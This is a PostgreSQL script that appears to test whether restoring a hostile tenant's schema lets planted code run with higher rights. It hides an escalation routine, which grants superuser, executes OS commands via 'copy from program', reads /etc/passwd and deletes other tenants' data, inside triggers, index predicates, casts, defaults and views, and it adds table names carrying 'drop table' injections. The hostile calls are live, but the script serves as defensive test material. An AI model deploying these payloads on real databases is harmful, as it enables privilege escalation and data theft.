-- A tenant who tries to gain rights, or to reach what isn't theirs, through everything that runs by itself while their schema is
-- restored. To be run by olga herself. Whoever may write into vault.loot is the master, or more.
create schema acme;
create table acme.booty (what text);

-- Tries everything at once and hides that it failed. Dynamic SQL, so that a restored copy says the same.
create function acme.strike(place text) returns void language plpgsql as $f$
declare
    attempt text;
begin
    foreach attempt in array array[
        format('insert into vault.loot (place, who) values (%L, current_user || %L || session_user)', place, ' for '),
        'reset role', 'set role none', 'set role master', 'set session authorization master', 'reset session authorization',
        format('insert into vault.loot (place, who) values (%L, %L)', place, 'after a change of role'),
        'alter role olga createrole createdb', 'grant master to olga', 'grant rds_superuser to olga', 'grant rds_superuser to attacker',
        'grant all on schema vault to olga', 'grant all on all tables in schema vault, neighbour to olga',
        'alter table vault.loot owner to olga', 'drop table vault.loot',
        'insert into acme.booty select secret from neighbour.precious', 'insert into acme_r.booty select secret from neighbour.precious',
        'update neighbour.precious set secret = null', 'delete from neighbour.precious', 'lock table neighbour.precious',
        'insert into acme.booty values (''from the restore'')',
        'copy acme_r.booty from program ''id''', 'copy acme_r.booty from ''/etc/passwd''', 'select lo_import(''/etc/passwd'')',
        'select pg_read_file(''PG_VERSION'')', 'select pg_reload_conf()', 'alter system set work_mem = ''1GB''',
        'alter database app set work_mem = ''1MB''', 'alter default privileges for role master grant all on tables to olga',
        'create event trigger planted on ddl_command_start execute function acme_r.fired()', 'create publication planted for all tables',
        'select pg_terminate_backend(pid) from pg_stat_activity where usename = ''master'''
    ] loop
        begin
            execute attempt;
        exception when others then null;
        end;
    end loop;
end $f$;
create function acme.bait(place text) returns boolean language plpgsql immutable as $f$
begin perform acme.strike(place); return true; end $f$;
create function acme.bait_int(place text) returns int language plpgsql immutable as $f$
begin perform acme.strike(place); return 1; end $f$;
create function acme.bait_text(place text) returns text language plpgsql immutable as $f$
begin perform acme.strike(place); return 'x'; end $f$;
create function acme.bait_definer(place text) returns text language plpgsql security definer as $f$
begin perform acme.strike(place); return 'x'; end $f$;
-- Settings of our sessions, for good.
create function acme.unsettle(place text) returns int language plpgsql immutable as $f$
declare
    setting text[];
begin
    foreach setting slice 1 in array array[
        ['session_replication_role', 'replica'], ['lock_timeout', '1h'], ['row_security', 'on'], ['extra_float_digits', '-15'],
        ['DateStyle', 'German'], ['bytea_output', 'escape'], ['search_path', 'acme_r, pg_catalog'],
        ['default_transaction_isolation', 'serializable'], ['check_function_bodies', 'on'], ['client_min_messages', 'debug5']
    ] loop
        begin
            perform set_config(setting[1], setting[2], false);
        exception when others then null;
        end;
    end loop;
    return 1;
end $f$;

create domain acme.baited as text check (acme.bait('domain'));
create type acme.shade as enum ('1', '2', '77');
create function acme.shade_of(s acme.shade) returns int language plpgsql immutable as $f$
begin perform acme.strike('cast'); return s::text::int; end $f$;
create cast (acme.shade as int) with function acme.shade_of(acme.shade) as implicit;
-- Shadows of what our own statements call.
create function acme.to_regclass(text) returns regclass language sql immutable as $$select null::regclass where acme.bait('to_regclass')$$;
create function acme.evil_equal(bigint, bigint) returns boolean language plpgsql immutable as $f$
begin perform acme.strike('operator'); return true; end $f$;
create operator acme.= (leftarg = bigint, rightarg = bigint, function = acme.evil_equal);
create function acme.step(state int, place text) returns int language plpgsql as $f$
begin perform acme.strike(place); return state + 1; end $f$;
create aggregate acme.count (text) (sfunc = acme.step, stype = int, initcond = '0');
create aggregate acme.sum (text) (sfunc = acme.step, stype = int, initcond = '0');

create table acme.customer (
    id bigint primary key,
    name text default acme.bait_definer('default') constraint watched check (acme.bait('check')),
    made text generated always as (acme.bait_text('generated column')) stored,
    strange acme.baited,
    shade acme.shade,
    ratio float8,
    during int4range,
    constraint apart exclude using gist (int4range(lower(during), lower(during) + acme.bait_int('exclusion')) with &&)
);
insert into acme.customer (id, name, strange, shade, ratio, during)
select i, 'name ' || i, 'y', case when i % 2 = 0 then '1' else '2' end::acme.shade, i / 7.0, int4range(i * 10, i * 10 + 5)
  from generate_series(1, 40) i;
create index by_expression on acme.customer (acme.bait_text('index expression'), name);
-- The argument is a constant, so whoever plans a query on the table evaluates it.
create index by_constant on acme.customer (name) where acme.bait('index predicate');
create index unsettling on acme.customer (name) where acme.unsettle('index predicate') = 1;
create statistics acme.expressed on (acme.bait_text('statistics')), id from acme.customer;
create policy own on acme.customer using (acme.bait('policy'));
alter table acme.customer enable row level security;
create function acme.fired() returns trigger language plpgsql as $f$ begin perform acme.strike('trigger'); return new; end $f$;
create trigger origin before insert on acme.customer for each row execute function acme.fired();
create trigger always after insert or update or delete or truncate on acme.customer execute function acme.fired();
alter table acme.customer enable always trigger always;
create trigger replica before insert on acme.customer for each row execute function acme.fired();
alter table acme.customer enable replica trigger replica;
create constraint trigger late after insert on acme.customer deferrable initially deferred for each row execute function acme.fired();
create view acme.seen as select acme.bait('view') as caught, id from acme.customer;
create materialized view acme.held as select acme.bait('materialized view') as caught, acme.count(name) as names from acme.customer;
create unique index held_once on acme.held (names) where acme.bait('index of a view');
create table acme.coloured (id int primary key, code int references shared.colour, shade acme.shade);
insert into acme.coloured values (1, 1, '1'), (2, 77, '77');
create rule also as on insert to acme.coloured do also select acme.bait('rule');
-- A key's check runs as the owner of the referenced table, and this one calls a cast first.
alter table acme.coloured add constraint by_cast foreign key (shade) references shared.colour (code) not valid;
create index planned_by_the_count on acme.coloured (code) where acme.bait('index of a child');
alter default privileges in schema acme grant all on tables to attacker;
-- For DMS, which reads as the master of the temporary database.
create table acme.plain (id int primary key, n int);
insert into acme.plain select i, i from generate_series(1, 10) i;
create index of_plain on acme.plain (n) where acme.bait('index of a plain table');
-- An expression records the operator that it uses, and not the operator's function.
create function acme.bait_beside(int, int) returns boolean language plpgsql immutable as $f$
begin perform acme.strike('operator of an index'); return true; end $f$;
create operator acme.=== (leftarg = int, rightarg = int, function = acme.bait_beside);
create table acme.plain_by_operator (id int primary key, n int, constraint compared check (n operator(acme.===) 1));
insert into acme.plain_by_operator values (1, 1);
create index by_operator on acme.plain_by_operator (n) where 1 operator(acme.===) 1;

-- Names made to end a quote.
create table acme."t'; drop table vault.loot; --" (id int primary key, "c""; reset role; --" text);
create table acme."$$; drop table vault.loot; $$ %s %I {schema}" (id serial primary key);
create table acme."\'; drop table vault.loot; --
line" (id int primary key);
insert into acme."t'; drop table vault.loot; --" values (1, 'one');
create index "i""; drop table vault.loot; --" on acme."t'; drop table vault.loot; --" ("c""; reset role; --");
create materialized view acme."m""; drop table vault.loot; --" as select 1 as one;
create function acme."f'; drop table vault.loot; --"() returns int language sql as 'select 1';
comment on table acme.plain is '''; drop table vault.loot; --';
grant select on acme.plain to "r""; drop table vault.loot; --";
